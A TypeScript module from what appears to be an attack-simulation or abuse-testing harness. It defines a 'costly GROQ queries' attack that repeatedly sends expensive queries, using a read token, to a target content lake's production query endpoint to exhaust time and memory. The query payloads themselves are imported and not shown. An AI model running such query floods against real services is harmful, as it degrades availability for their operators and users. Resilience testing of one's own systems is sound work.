import type { Attack } from "./attack.ts";
import { costlyGroq, params } from "./costly-groq.ts";
import { repeat, sendAndNote } from "./repeat.ts";

/** Send the lake queries that take long or much memory, with a token that may read. */
export const costlyQueries: Attack = {
  name: "costly GROQ queries",
  addresses: 1,
  run: (attacker) => {
    const { lake, readToken } = attacker.target;
    const headers = { authorization: `Bearer ${readToken}`, "content-type": "application/json" };
    let count = 0;
    return repeat(attacker, { atOnce: 6, pauseMs: 200 }, async () => {
      const body = JSON.stringify({ query: costlyGroq[count++ % costlyGroq.length], params });
      await sendAndNote(attacker, `${lake}/v2025-02-19/data/query/production`, {
        method: "POST",
        headers,
        body,
      });
    });
  },
};
